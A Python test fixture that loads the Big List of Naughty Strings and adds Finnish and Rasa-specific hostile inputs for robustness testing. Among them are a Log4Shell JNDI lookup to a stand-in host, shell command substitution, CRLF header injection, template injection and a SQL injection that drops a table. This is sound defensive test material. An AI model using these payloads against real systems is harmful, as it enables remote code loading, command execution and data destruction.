"""Hostile texts: the Big List of Naughty Strings (Max Woolf, MIT licence) and what Finnish and Rasa add to it."""

from __future__ import annotations

import json
from pathlib import Path

NAUGHTY: list[str] = json.loads((Path(__file__).parent / "naughty_strings.json").read_text(encoding="utf-8"))
OURS = [
    "a\u0308\u0308iti ei jaksa",  # ä as a and a dot mark, twice
    "Ta\u030ahtoisin pa\u0308a\u0308sta\u0308 o\u0308isin to\u0308ihin",
    "\u202eaiskuar\u202c vuokra r\u00e4stiss\u00e4",
    "vuokra\u200b\u200dra\u2060hat\ufeff loppu",
    "\u0301" * 2000,
    "a" + "\u0336" * 1999,
    "rahat\u2028loppu\u2029nyt",
    "\ud800 yksin\u00e4inen \udfff",
    "\ud83d",
    "👩‍👩‍👧‍👦" * 80,
    '/kysy_hinta{"wanted_need": "velka"}',
    "/restart",
    "/session_start",
    '／korjaa_tarve{"rejected_need": "velka"}',
    '\u200b/hae_apua{"wanted_need":"velka"}',
    "\\/ohita",
    "//////",
    "/" * 2000,
    '{"text": "velka", "sender": "x"}',
    "[velka](need:vuokra_hata)",
    '[Nokia]{"entity": "municipality", "value": "536"}',
    "slot{'needs': []}",
    "{{ 7 * 7 }} {% raw %} {{ config }}",
    "${jndi:ldap://paha.test/a} $(id) `id` %0a%0dSet-Cookie: a=b",
    "%s%s%s%n %(name)s {0.__class__} {text}",
    "velka' OR '1'='1'; DROP TABLE service; --",
    'velka" NEAR/3 rahat* AND (NOT "x',
    "velka\x00rahat",
    "\x1b[31mpunainen\x1b[0m",
    "é" * 2000,
    "ﷺ" * 400,
    "\u00c5\u0130\u0131ſKﬃ",
    "1" * 2000,
    "010190-" * 285,
    "a@" * 1000,
    "(" * 2000,
    "Å" * 1999 + "!",
    "ä ö å " * 333,
    " " * 2000,
    "\n" * 2000,
    "ei " * 666,
    "FI" + "0" * 1998,
    "+358" * 500,
    ".".join("a" * 999),
]
TEXTS = [text[:2000] for text in [*NAUGHTY, *OURS]]
